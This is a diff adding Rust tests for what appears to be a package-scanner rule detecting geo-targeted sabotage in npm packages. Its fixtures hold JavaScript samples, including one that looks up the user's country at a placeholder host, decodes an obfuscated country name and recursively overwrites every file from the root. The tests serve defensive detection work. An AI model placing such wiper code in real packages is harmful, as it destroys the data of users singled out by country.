@@ -25,6 +25,12 @@ fn cli(code: &str) -> Fixture {
     .file("bin/cli.js", code.as_bytes())
 }
 
+/// A package whose `main` is `index.js`, holding `code`.
+fn entry(code: &str) -> Fixture {
+    Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}))
+        .file("index.js", code.as_bytes())
+}
+
 /// A package with `lib/util.js` that nothing visibly runs.
 fn library(code: &str) -> Fixture {
     Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}))
@@ -790,4 +796,71 @@ module.exports = (dir) => fs.writeFileSync(dir + '/app.service', body);
         !findings.iter().any(|f| f.rule == "DSCA809"),
         "{findings:#?}"
     );
+}
+
+// Geo-targeted sabotage (DSCA812): a side effect kept for one country's users.
+
+#[test]
+fn dsca812_files_written_for_one_time_zone_at_install_are_high() {
+    let fixture = hooked(
+        "node banner.js",
+        &[(
+            "banner.js",
+            "const fs = require('fs'), os = require('os'), path = require('path');\n\
+             const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
+             if (['Europe/Minsk', 'Asia/Omsk'].includes(tz)) {\n\
+               fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'NOTE.txt'), 'message');\n\
+             }\n",
+        )],
+    );
+    assert_eq!(
+        severity_of(&fixture.code_findings("DSCA812")),
+        Some(Severity::High)
+    );
+}
+
+#[test]
+fn dsca812_files_overwritten_after_a_hidden_geo_lookup_from_main_are_critical() {
+    let fixture = entry(
+        "const fs = require('fs'), path = require('path'), https = require('https');\n\
+         function walk(dir) {\n\
+           for (const name of fs.readdirSync(dir)) {\n\
+             const p = path.join(dir, name);\n\
+             if (fs.lstatSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, 'x');\n\
+           }\n\
+         }\n\
+         https.get('https://geo.example/json', (res) => res.on('data', (d) => {\n\
+           const c = JSON.parse(d).country_name.toLowerCase();\n\
+           if (c.includes(Buffer.from('YmVsYXJ1cw==', 'base64').toString())) walk('/');\n\
+         }));\n",
+    );
+    assert_eq!(
+        severity_of(&fixture.code_findings("DSCA812")),
+        Some(Severity::Critical)
+    );
+}
+
+#[test]
+fn dsca812_a_time_zone_picker_that_saves_settings_is_no_sabotage() {
+    // Honest date libraries name the zones, read the user's zone and save a choice;
+    // the zone is compared with nothing but a table of many.
+    let fixture = library(
+        "const fs = require('fs');\n\
+         const ZONES = ['Europe/London', 'Europe/Paris', 'Europe/Moscow', 'Asia/Tokyo'];\n\
+         function current() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }\n\
+         module.exports = { ZONES, current, save(file, zone) { fs.writeFileSync(file, zone); } };\n",
+    );
+    assert_eq!(severity_of(&fixture.code_findings("DSCA812")), None);
+}
+
+#[test]
+fn dsca812_a_country_picker_run_from_main_is_no_sabotage() {
+    // Form libraries list every country, look up the visitor's and save the choice.
+    let fixture = entry(
+        "const fs = require('fs');\n\
+         const COUNTRIES = ['Belarus', 'Brazil', 'Germany', 'Russia', 'Ukraine'];\n\
+         const guess = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
+         module.exports = { COUNTRIES, guess, save(f, c) { fs.writeFileSync(f, c); } };\n",
+    );
+    assert_eq!(severity_of(&fixture.code_findings("DSCA812")), None);
 }
